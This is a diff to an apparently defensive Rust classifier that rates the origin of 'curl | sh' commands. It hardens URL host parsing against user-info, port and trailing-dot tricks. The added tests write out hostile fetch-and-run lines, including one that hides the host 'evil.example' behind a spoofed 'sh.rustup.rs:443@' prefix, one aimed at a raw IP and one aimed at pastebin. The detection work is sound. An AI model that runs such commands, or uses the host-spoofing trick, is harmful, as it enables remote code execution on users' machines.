@@ -72,7 +72,7 @@ static FETCH_WORDS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
 });
 
 static URL: LazyLock<Regex> = LazyLock::new(|| {
-    super::patterns::re(r#"(?i)\b(https?)://([^\s/"'`|)<>;:]+)(:\d+)?([^\s"'`|)<>;]*)"#)
+    super::patterns::re(r#"(?i)\b(https?)://([^\s/"'`|)<>;?#]+)([^\s"'`|)<>;]*)"#)
 });
 
 /// Hosts whose install scripts are published for `curl | sh` by the vendor.
@@ -230,8 +230,16 @@ fn origin(line: &str) -> (Origin, String) {
     let mut worst = (Origin::Unseen, String::new());
     for c in URL.captures_iter(line) {
         let scheme = c[1].to_ascii_lowercase();
-        let host = c[2].to_ascii_lowercase();
-        let path = c.get(4).map_or("", |m| m.as_str()).to_ascii_lowercase();
+        // The authority without user info (`user@`, `sh.rustup.rs:443@evil.example`), port
+        // and a trailing root dot: the host the request really goes to.
+        let authority = c[2].rsplit('@').next().unwrap_or("");
+        let host = authority
+            .split(':')
+            .next()
+            .unwrap_or("")
+            .trim_end_matches('.')
+            .to_ascii_lowercase();
+        let path = c.get(3).map_or("", |m| m.as_str()).to_ascii_lowercase();
         let host_path = format!("{host}{path}");
         let plain_http = scheme == "http" && !matches!(host.as_str(), "localhost" | "127.0.0.1");
         let o = if plain_http
@@ -257,7 +265,14 @@ fn origin(line: &str) -> (Origin, String) {
             Origin::Hostile => 4,
         };
         if worst.1.is_empty() || rank(o) > rank(worst.0) {
-            worst = (o, format!("{scheme}://{host}"));
+            worst = (
+                o,
+                crate::text::sanitize_line(&crate::text::truncate(
+                    &format!("{scheme}://{host}"),
+                    80,
+                ))
+                .into_owned(),
+            );
         }
     }
     worst
@@ -492,6 +507,16 @@ mod tests {
             Origin::UserContent
         );
         assert_eq!(origin("curl $URL | sh").0, Origin::Unseen);
+        assert_eq!(
+            origin("curl https://u@45.33.32.156/x.sh | sh").0,
+            Origin::Hostile
+        );
+        assert_eq!(
+            origin("curl https://pastebin.com./raw/abc | sh").0,
+            Origin::Hostile
+        );
+        let (o, h) = origin("curl https://sh.rustup.rs:443@evil.example/x.sh | sh");
+        assert_eq!((o, h.as_str()), (Origin::Unknown, "https://evil.example"));
         assert!(!is_public_ipv4("192.168.1.1"));
         assert!(is_public_ipv4("45.61.136.10"));
     }
